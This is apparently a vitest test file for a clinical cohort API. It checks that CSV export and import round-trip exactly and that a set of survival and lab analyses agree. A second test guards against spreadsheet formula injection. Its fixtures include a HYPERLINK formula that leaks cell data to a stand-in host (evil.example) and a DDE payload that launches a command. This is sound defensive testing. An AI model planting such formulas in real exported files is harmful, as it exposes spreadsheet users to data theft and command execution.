/**
 * Round trip: the demo cohort exported as CSV, imported with `npm run import` into a fresh
 * database under the same site code, and served by `npm start` on that database, exports the
 * very same files, and every analysis of the cohort gives the same result. (The interchange
 * format has no follow-up therapies, site reference ranges or saved cohorts, so those are not
 * compared; every lab result carries its own limits, so the grades do not depend on the site's.)
 *
 * Text a spreadsheet would run as a formula (`=HYPERLINK(...)` as a patient identifier, `@SUM`
 * as a modality) leaves as text with a leading `'`, numbers (a negative day from the index) as
 * they are, and reads back as it was.
 */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { importFolder } from '../../src/interchange/import/import-folder.js';
import { childEnv, freePort, PROJECT_ROOT, startProcess, tsxArgs, type RunningProcess } from '../helpers/processes.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { exportFolder, INTERCHANGE_TABLES } from '../import/export-folder.js';
import { runImport } from '../import/import-cli.js';

const ANALYSES = `{ cohort {
  size
  survival { n events median { estimate lower upper } quantiles { probability estimate lower upper } restrictedMean { end estimate stdErr } }
  compareSurvival(by: { variable: "ascitesAtBaseline" }) { logRank { statistic df p } groups { label estimate { n events median { estimate } } } }
  coxRegression(covariates: [{ variable: "ascitesAtBaseline" }, { variable: "extrahepaticMetastases" }, { variable: "childPugh", levels: ["B", "C"] }],
                interactions: [["ascitesAtBaseline", "extrahepaticMetastases"]]) {
    n events converged terms { name coef hazardRatio lower upper se p } likelihoodRatio { statistic p } concordance }
  crossTab(rows: { variable: "treatmentDistribution" }, columns: { variable: "imaging.splenomegaly.YEAR_1" }) { rowLabels columnLabels counts fisher { p oddsRatio } }
  labTrajectory(analyte: ALP, by: { variable: "treatmentDistribution" }) { summary { timepoint n mean sd } anova { nComplete F p } groups { label n } }
  toxicityTable(worstWithin: { fromDay: 1, toDay: 365 }) { rows { analyte timepoint measured patientsByGrade { grade patients } } worstWithin { patientsWithAnyGradeAtLeast { grade patients } } }
  characteristics { variable n missing levels { level count } summary { mean sd median } }
} }`;

let workdir: string;
let source: TestServer;
let imported: RunningProcess | undefined;
beforeAll(async () => {
  workdir = mkdtempSync(join(tmpdir(), 'net-tare-round-trip-'));
  source = await startTestServer();
});
afterAll(async () => {
  await imported?.stop();
  await source.close();
  rmSync(workdir, { recursive: true, force: true });
});

async function graphql(url: string, query: string): Promise<unknown> {
  const response = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query }) });
  const body = (await response.json()) as { data?: unknown; errors?: unknown };
  expect(body.errors).toBeUndefined();
  return body.data;
}

it('exports, imports into a fresh database, and exports the same files; every analysis agrees', async () => {
  const folder = join(workdir, 'demo-export');
  const exported = await exportFolder(source.url, folder);
  const sites = (await graphql(source.url, '{ sites { code } }')) as { sites: { code: string }[] };
  expect(sites.sites).toHaveLength(1);
  const siteCode = sites.sites[0]!.code;

  const database = join(workdir, 'imported.sqlite');
  const run = runImport(database, ['--site', siteCode, folder]);
  expect(run.stderr).not.toMatch(/problem/);
  expect(run.status).toBe(0);

  const port = await freePort();
  imported = await startProcess(tsxArgs('src/main.ts'), {
    cwd: workdir,
    env: childEnv({ DATABASE_URL: `file:${database}`, AUTH_MODE: 'open', PORT: String(port), HOST: '127.0.0.1' }),
    ready: /cohort API on http/,
  });
  const importedUrl = `http://127.0.0.1:${port}`;

  const again = await exportFolder(importedUrl, join(workdir, 'again'));
  for (const table of INTERCHANGE_TABLES) {
    expect(again[table].length, `${table}.csv`).toBeGreaterThan(0);
    expect(again[table], `${table}.csv`).toBe(exported[table]);
  }
  const arrow = async (url: string) => Buffer.from(await (await fetch(`${url}/export/labs.arrow`)).arrayBuffer());
  expect((await arrow(importedUrl)).equals(await arrow(source.url))).toBe(true);

  const analyses = await graphql(source.url, ANALYSES);
  expect((analyses as { cohort: { size: number } }).cohort.size).toBe(93);
  expect(await graphql(importedUrl, ANALYSES)).toEqual(analyses);
}, 180_000);

/**
 * Identifiers a site manager could type, each one a formula to a spreadsheet: the stored value,
 * and the cell of the imported file (the third one, stored with a leading quote of its own, is
 * given as the export would write it).
 */
const FORMULA_PATIENTS: Readonly<Record<string, { stored: string; cell: string }>> = {
  'NET-001': { stored: '=HYPERLINK("https://evil.example/?leak="&B2,"NET-001")', cell: '=HYPERLINK("https://evil.example/?leak="&B2,"NET-001")' },
  'NET-002': { stored: "+cmd|' /C calc'!A0", cell: "+cmd|' /C calc'!A0" },
  'NET-003': { stored: "'-2+3", cell: "''-2+3" },
};
const FORMULA_MODALITY = '@SUM(1+1)';

/** The example folder with every patient identifier replaced by a formula, and one modality too. */
function formulaFolder(folder: string): void {
  cpSync(join(PROJECT_ROOT, 'examples/import'), folder, { recursive: true });
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  for (const file of readdirSync(folder)) {
    let text = readFileSync(join(folder, file), 'utf8');
    for (const [plain, { cell }] of Object.entries(FORMULA_PATIENTS)) text = text.replaceAll(`${plain},`, `${quoted(cell)},`);
    if (file === 'imaging.csv') text = text.replace(',2011-05-10,CT,', `,2011-05-10,${FORMULA_MODALITY},`);
    writeFileSync(join(folder, file), text);
  }
}

/** Serves `folder` imported into an in-memory database (the import's own code), and exports it. */
async function importAndExport(folder: string, into: string) {
  const server = await startTestServer({ seed: false });
  try {
    const report = await importFolder(server.db, { siteCode: 'SITE-A', folder });
    expect(report.issues).toEqual([]);
    return await exportFolder(server.url, into);
  } finally {
    await server.close();
  }
}

it('writes text a spreadsheet would run with a leading quote, leaves numbers alone, and reads it all back', async () => {
  const source = join(workdir, 'formulas');
  formulaFolder(source);
  const exported = await importAndExport(source, join(workdir, 'formulas-export'));

  const patients = parse(exported.patients, { columns: true }) as Record<string, string>[];
  expect(patients.map((row) => row['patient_id'])).toEqual([
    `'${FORMULA_PATIENTS['NET-001']!.stored}`, `'${FORMULA_PATIENTS['NET-002']!.stored}`, "''-2+3",
  ]);
  const imaging = parse(exported.imaging, { columns: true }) as Record<string, string>[];
  expect(imaging.map((row) => row['modality'])).toContain(`'${FORMULA_MODALITY}`);
  const labs = parse(exported.labs, { columns: true }) as Record<string, string>[];
  expect(labs.map((row) => row['day_from_index'])).toContain('-6');
  for (const table of INTERCHANGE_TABLES) {
    const rows = parse(exported[table], { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => Object.entries(row));
    const formulas = cells.filter(([column, cell]) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && column !== 'day_from_index'));
    expect(formulas, table).toEqual([]);
  }

  const database = join(workdir, 'formulas.sqlite');
  const run = runImport(database, ['--site', 'SITE-A', join(workdir, 'formulas-export')]);
  expect(run.stderr).not.toMatch(/problem/);
  expect(run.status).toBe(0);
  const db = new Database(database, { readonly: true });
  try {
    expect(db.prepare('SELECT external_id FROM patients ORDER BY id').pluck().all()).toEqual(Object.values(FORMULA_PATIENTS).map(({ stored }) => stored));
    expect(db.prepare("SELECT modality FROM imaging_studies WHERE date = '2011-05-10'").pluck().get()).toBe(FORMULA_MODALITY);
  } finally {
    db.close();
  }

  const again = await importAndExport(join(workdir, 'formulas-export'), join(workdir, 'formulas-again'));
  for (const table of INTERCHANGE_TABLES) expect(again[table], `${table}.csv`).toBe(exported[table]);
}, 120_000);
